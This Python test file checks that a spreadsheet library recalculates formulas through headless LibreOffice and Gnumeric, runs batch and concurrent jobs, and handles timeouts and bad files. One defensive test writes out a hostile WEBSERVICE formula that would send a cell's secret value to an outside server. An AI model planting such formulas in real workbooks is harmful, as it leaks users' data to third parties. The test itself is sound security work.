"""recalculate/to_pdf drive headless LibreOffice with a private profile that always recalculates."""

from __future__ import annotations

import http.server
import re
import threading
import zipfile

import openpyxl
import pytest

from flopsheet.errors import FlopsheetError
from flopsheet.recalc import find_soffice, recalculate, to_pdf
from flopsheet.untrusted import check_workbook


def _values(path, sheet=None):
    wb = openpyxl.load_workbook(path, data_only=True)
    ws = wb[sheet] if sheet else wb.active
    return {c.coordinate: c.value for row in ws.iter_rows() for c in row if c.value is not None}


def _formula_book(path, scale=1):
    """Formulas only, no cached values (openpyxl never computes them)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Calc"
    for r, (name, value) in enumerate([("a", 10), ("b", 20), ("c", 30)], start=1):
        ws.cell(r, 1, name)
        ws.cell(r, 2, value * scale)
    ws["D1"] = "=B1*2"
    ws["D2"] = "=SUM(B1:B3)"
    ws["D3"] = '=INDEX(B1:B3,MATCH("b",A1:A3,0))'
    ws["D4"] = "=ROUNDUP(D2/7,1)"
    wb.create_sheet("Other")["A1"] = "=Calc!D2+1"
    wb.save(path)
    return path


def test_formulas_get_values(soffice, tmp_path):
    src = _formula_book(tmp_path / "in.xlsx")
    assert "D1" not in _values(src)  # no cached values before
    before = src.read_bytes()
    out = recalculate(src, tmp_path / "out.xlsx")
    got = _values(out)
    assert got["D1"] == 20 and got["D2"] == 60 and got["D3"] == 20 and got["D4"] == pytest.approx(8.6)
    assert _values(out, "Other")["A1"] == 61
    assert src.read_bytes() == before
    assert not list(tmp_path.glob(".~lock*"))  # LibreOffice worked on a private copy
    check_workbook(out)  # what LibreOffice writes passes our own hostile-input check


def _patch_cached_value(src, dst, formula, cached):
    with zipfile.ZipFile(src) as zin:
        parts = {i.filename: zin.read(i) for i in zin.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    # an empty value, as openpyxl writes it through the standard library (<v />) or lxml (<v></v>)
    old = re.compile(f"<f>{re.escape(formula)}</f>" + r"(?:<v\s*/>|<v></v>)")
    assert old.search(sheet), sheet
    parts["xl/worksheets/sheet1.xml"] = old.sub(f"<f>{formula}</f><v>{cached}</v>", sheet, count=1).encode()
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    return dst


def test_stale_cached_value_is_recalculated(soffice, tmp_path):
    """LibreOffice's default (OOXMLRecalcMode=1, never) would keep 999 here."""
    stale = _patch_cached_value(_formula_book(tmp_path / "in.xlsx"), tmp_path / "stale.xlsx", "B1*2", 999)
    assert _values(stale)["D1"] == 999
    assert _values(recalculate(stale, tmp_path / "out.xlsx"))["D1"] == 20


def test_concurrent_runs(soffice, tmp_path):
    results, errors = {}, []

    def run(i):
        try:
            src = _formula_book(tmp_path / f"in{i}.xlsx", scale=i + 1)
            results[i] = _values(recalculate(src, tmp_path / f"out{i}.xlsx"))["D2"]
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=run, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    assert results == {0: 60, 1: 120}


def test_one_libreoffice_run_recalculates_many(soffice, tmp_path, monkeypatch):
    """recalculate_many: one soffice process for every .xlsx, each workbook's own values in its own
    dst (two inputs of the same name kept apart), and a bad workbook fails alone."""
    import subprocess

    from flopsheet import recalc

    started = []
    real = subprocess.Popen

    def popen(cmd, *a, **k):
        started.append(cmd)
        return real(cmd, *a, **k)

    monkeypatch.setattr(recalc.subprocess, "Popen", popen)
    srcs = []
    for i in range(3):
        (tmp_path / str(i)).mkdir()
        srcs.append(_formula_book(tmp_path / str(i) / "in.xlsx", scale=i + 1))
    odd = tmp_path / "odd.xlsx"
    with zipfile.ZipFile(odd, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
    notes = tmp_path / "notes.xlsx"
    notes.write_text("not a workbook")
    jobs = [(s, tmp_path / f"out{i}.xlsx") for i, s in enumerate(srcs)]
    jobs += [(odd, tmp_path / "odd-out.xlsx"), (notes, tmp_path / "notes-out.xlsx"), (srcs[0], srcs[0])]
    got = recalc.recalculate_many(jobs)
    assert len(started) == 1
    assert [_values(got[i])["D2"] for i in range(3)] == [60, 120, 180]
    assert [got[i] for i in range(3)] == [dst for _, dst in jobs[:3]]
    assert "LibreOffice could not convert odd.xlsx" in str(got[3]) and not (tmp_path / "odd-out.xlsx").exists()
    assert "not an Excel workbook" in str(got[4])
    assert "is the input file" in str(got[5]) and isinstance(got[5], FlopsheetError)
    assert recalc.recalculate_many([]) == []


def test_gnumeric_pool_recalculates_many(gnumeric, tmp_path):
    from flopsheet.recalc import recalculate_gnumeric_many

    srcs = [_formula_book(tmp_path / f"in{i}.xlsx", scale=i + 1) for i in range(3)]
    (tmp_path / "notes.xlsx").write_text("not a workbook")
    got = recalculate_gnumeric_many(
        [(s, tmp_path / f"out{i}.xlsx") for i, s in enumerate(srcs)]
        + [(tmp_path / "notes.xlsx", tmp_path / "notes-out.xlsx")],
        workers=2,
    )
    assert [_values(g, "Calc")["D2"] for g in got[:3]] == [60, 120, 180]
    assert isinstance(got[3], FlopsheetError) and "not an Excel workbook" in str(got[3])


def test_non_workbook_refused_before_libreoffice(tmp_path):
    src = tmp_path / "notes.xlsx"
    src.write_text("not a workbook")
    with pytest.raises(FlopsheetError, match="not an Excel workbook"):
        recalculate(src, tmp_path / "out.xlsx")
    assert not (tmp_path / "out.xlsx").exists()


def test_unloadable_zip_reports_libreoffice_failure(soffice, tmp_path):
    src = tmp_path / "odd.xlsx"
    with zipfile.ZipFile(src, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
    with pytest.raises(FlopsheetError, match="LibreOffice could not convert odd.xlsx") as info:
        recalculate(src, tmp_path / "out.xlsx")
    assert "\n" not in str(info.value)
    assert not (tmp_path / "out.xlsx").exists()


def test_timeout_kills_and_leaves_nothing(soffice, tmp_path):
    src = _formula_book(tmp_path / "in.xlsx")
    with pytest.raises(FlopsheetError, match="did not finish"):
        recalculate(src, tmp_path / "out.xlsx", timeout=0.2)
    assert not (tmp_path / "out.xlsx").exists()


def test_output_equal_to_input_refused(soffice, tmp_path):
    src = _formula_book(tmp_path / "in.xlsx")
    before = src.read_bytes()
    with pytest.raises(FlopsheetError, match="is the input file"):
        recalculate(src, src)
    assert src.read_bytes() == before


def test_webservice_is_not_fetched(soffice, tmp_path):
    """A hostile workbook must not make the recalculation phone home with its data."""
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # pragma: no cover - must not happen
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"1")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        wb = openpyxl.Workbook()
        wb.active["A1"] = "secret"
        wb.active["B1"] = f'=_xlfn.WEBSERVICE("http://127.0.0.1:{server.server_address[1]}/?"&A1)'
        wb.save(tmp_path / "in.xlsx")
        recalculate(tmp_path / "in.xlsx", tmp_path / "out.xlsx")
    finally:
        server.shutdown()
    assert hits == []


def test_to_pdf(soffice, tmp_path):
    src = _formula_book(tmp_path / "book.xlsx")
    (tmp_path / "pdf").mkdir()
    pdf = to_pdf(src, tmp_path / "pdf")
    assert pdf == tmp_path / "pdf" / "book.pdf"
    assert pdf.read_bytes()[:5] == b"%PDF-"
    with pytest.raises(FlopsheetError, match="exists"):
        to_pdf(src, tmp_path / "pdf")


def test_find_soffice_override(monkeypatch, tmp_path):
    monkeypatch.setenv("FLOPSHEET_SOFFICE", str(tmp_path / "no-such-soffice"))
    with pytest.raises(FlopsheetError, match="FLOPSHEET_SOFFICE"):
        find_soffice()
    fake = tmp_path / "soffice"
    fake.write_text("#!/bin/sh\n")
    fake.chmod(0o755)
    monkeypatch.setenv("FLOPSHEET_SOFFICE", str(fake))
    assert find_soffice() == str(fake)


def test_gnumeric_recalculates_what_python_wrote(gnumeric, tmp_path):
    """The second engine computes a formula openpyxl wrote without a cached value."""
    import openpyxl

    from flopsheet.recalc import recalculate_gnumeric

    wb = openpyxl.Workbook()
    wb.active["A1"] = 7
    wb.active["B1"] = "=A1*6"
    src = tmp_path / "in.xlsx"
    wb.save(src)
    out = recalculate_gnumeric(src, tmp_path / "out.xlsx")
    assert openpyxl.load_workbook(out, data_only=True).active["B1"].value == 42
    assert src.read_bytes()[:2] == b"PK"  # the input is untouched and still a zip
